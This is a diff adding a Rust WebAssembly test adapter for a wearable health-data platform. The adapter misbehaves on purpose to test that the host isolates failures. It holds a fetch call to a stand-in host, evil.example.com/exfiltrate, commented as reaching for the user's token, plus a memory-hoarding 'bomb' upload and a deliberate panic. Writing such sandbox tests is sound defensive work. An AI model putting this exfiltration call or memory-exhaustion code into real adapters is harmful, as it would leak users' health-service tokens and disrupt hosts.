@@ -1,0 +1,119 @@
+//! A deliberately misbehaving wearable adapter (see the package description). Each failure
+//! must cost only its own call: the host keeps serving, and a failed sync is recorded on
+//! the connection.
+
+#![cfg_attr(not(target_arch = "wasm32"), allow(unused))]
+
+#[cfg(target_arch = "wasm32")]
+mod component {
+    use std::cell::RefCell;
+
+    use mindflow_adapter_kit::bindings::exports::mindflow::platform::adapter::{
+        self as wit, AdapterError, Batch, ConnectionKind, Guest, GuestUpload, HrvKind,
+        Notification, ProviderInfo,
+    };
+    use mindflow_adapter_kit::transport::Transport;
+    use mindflow_adapter_kit::wasi_http::WasiHttp;
+
+    struct Adapter;
+
+    /// An upload that misbehaves as its name says.
+    struct Upload {
+        name: String,
+        hoard: RefCell<Vec<Vec<u8>>>,
+    }
+
+    impl GuestUpload for Upload {
+        fn new(filename: String) -> Self {
+            Self {
+                name: filename,
+                hoard: RefCell::new(Vec::new()),
+            }
+        }
+
+        fn write(&self, chunk: Vec<u8>) -> Result<(), AdapterError> {
+            match self.name.as_str() {
+                // Keeps every chunk, and more: past the memory cap on a large file.
+                "bomb.xml" => {
+                    let mut hoard = self.hoard.borrow_mut();
+                    hoard.push(chunk.clone());
+                    hoard.push(vec![0u8; 4 * 1024 * 1024]);
+                    Ok(())
+                }
+                "trap.xml" => panic!("the hostile adapter traps on purpose"),
+                _ => Ok(()),
+            }
+        }
+
+        fn finish(&self) -> Result<Batch, AdapterError> {
+            Ok(Batch {
+                days: Vec::new(),
+                sleep: Vec::new(),
+            })
+        }
+    }
+
+    impl Guest for Adapter {
+        type Upload = Upload;
+
+        #[cfg(feature = "upload")]
+        fn describe() -> ProviderInfo {
+            ProviderInfo {
+                id: "hostile-upload".into(),
+                display_name: "Hostile test adapter (uploads)".into(),
+                connection: ConnectionKind::Upload,
+                api_hosts: Vec::new(),
+                webhooks: None,
+                hrv_kind: HrvKind::None,
+                backfill_days: 0,
+                requests_per_minute: 0,
+            }
+        }
+
+        #[cfg(not(feature = "upload"))]
+        fn describe() -> ProviderInfo {
+            ProviderInfo {
+                id: "hostile".into(),
+                display_name: "Hostile test adapter".into(),
+                connection: ConnectionKind::Oauth(wit::Oauth {
+                    authorization_endpoint: "https://accounts.google.com/o/oauth2/v2/auth".into(),
+                    token_endpoint: "https://oauth2.googleapis.com/token".into(),
+                    revocation_endpoint: None,
+                    scopes: vec![
+                        "https://www.googleapis.com/auth/googlehealth.activity_and_fitness.readonly"
+                            .into(),
+                    ],
+                    pkce: true,
+                    client_auth: wit::ClientAuth::Body,
+                    extra_params: Vec::new(),
+                }),
+                api_hosts: vec!["https://health.googleapis.com".into()],
+                webhooks: None,
+                hrv_kind: HrvKind::None,
+                backfill_days: 3,
+                requests_per_minute: 60,
+            }
+        }
+
+        /// Reaches for a host it never declared, hoping for the user's token.
+        fn fetch(_start: String, _end: String) -> Result<Batch, AdapterError> {
+            match WasiHttp.get("https://evil.example.com/exfiltrate", &[]) {
+                Ok(_) => Ok(Batch {
+                    days: Vec::new(),
+                    sleep: Vec::new(),
+                }),
+                Err(error) => Err(wit::AdapterError::from(error)),
+            }
+        }
+
+        fn read_notification(_body: Vec<u8>) -> Result<Notification, AdapterError> {
+            Ok(Notification::Ignore)
+        }
+
+        fn identify() -> Result<String, AdapterError> {
+            Ok("hostile-user".into())
+        }
+    }
+
+    mindflow_adapter_kit::bindings::export_adapter!(Adapter with_types_in mindflow_adapter_kit::bindings);
+}
